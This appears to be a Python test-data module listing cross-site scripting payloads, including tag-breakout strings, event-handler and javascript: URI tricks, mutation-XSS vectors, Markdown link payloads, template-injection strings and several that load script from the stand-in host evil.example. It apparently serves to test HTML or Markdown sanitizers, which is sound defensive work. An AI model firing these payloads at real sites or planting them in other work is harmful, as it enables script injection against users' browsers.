"""What somebody types who wants another's browser to run it. Each carries the word `pwn`."""

ELEMENTS = [
    "<script>pwn()</script>", "<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>", "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script/pwn>pwn()</script>",
    "</title><script>pwn()</script>", "</textarea><script>pwn()</script>", "</style><script>pwn()</script>", "--><script>pwn()</script>",
    "]]><script>pwn()</script>", "\"><script>pwn()</script>", "'><script>pwn()</script>", "</script><script>pwn()</script>",
    "<img src=x onerror=pwn()>", "<img src=`x`onerror=pwn()>", "<img/src/onerror=pwn()>", "<img src=x:pwn onerror=eval(src)>",
    "<image src=x onerror=pwn()>",
    "\"><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", "<svg onload=pwn()>", "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=pwn()></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>", "<math href=javascript:pwn()>x</math>", "<iframe src=javascript:pwn()>",
    "<iframe srcdoc='<script>pwn()</script>'>", "<object data=javascript:pwn()>", "<embed src=javascript:pwn()>", "<body onload=pwn()>",
    "<body background=javascript:pwn()>",
    "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>", "<video><source onerror=pwn()>",
    "<audio src=x onerror=pwn()>",
    "<marquee onstart=pwn()>", "<form action=javascript:pwn()><button>x</button></form>", "<button formaction=javascript:pwn()>x</button>",
    "<a href=javascript:pwn()>x</a>", "<a href='java&#115;cript:pwn()'>x</a>", "<a href=\"jav\tascript:pwn()\">x</a>",
    "<a href='data:text/html,<script>pwn()</script>'>x</a>",
    "<a href='vbscript:pwn()'>x</a>", "<base href=javascript:pwn()//>", "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<style>@import'//evil.example/pwn'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<div style='background:url(javascript:pwn())'>x</div>",
    "<div onmouseover='pwn()'>x</div>",
    "<template><script>pwn()</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<!--<img src=x onerror=pwn()>-->",
    "<p hx-get='//evil.example/pwn' hx-trigger=load>x</p>", "<pwn-box onclick=pwn()>x</pwn-box>",
]
ATTRIBUTES = ["\" onmouseover=pwn() x=\"", "' onmouseover=pwn() x='", "\" autofocus onfocus=pwn() \"", "x\" style=\"background:url(//evil.example/pwn)"]
MARKS = [
    "[x](javascript:pwn())", "[x](JaVaScRiPt:pwn())", "[x](javascript&#58;pwn())", "[x](data:text/html;base64,cHdu)pwn",
    "[x](vbscript:pwn())", "<javascript:pwn()>",
    "![x](x\"onerror=\"pwn())", "![x](javascript:pwn())", "[x](https://x/ \"onmouseover=pwn()\")", "[a]: javascript:pwn()\n[a]",
    "`<img src=x onerror=pwn()>`",
    "```\n<script>pwn()</script>\n```", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\<script>pwn()\\</script>",
    "{{ pwn.__class__ }}", "{% import os %}pwn", "${pwn()}", "pwn\u2028<script>pwn()</script>", "＜script＞pwn()＜/script＞", "<b>pwn</b>",
    "%3Cscript%3Epwn()%3C/script%3E",
]
ALL = ELEMENTS + ATTRIBUTES + MARKS
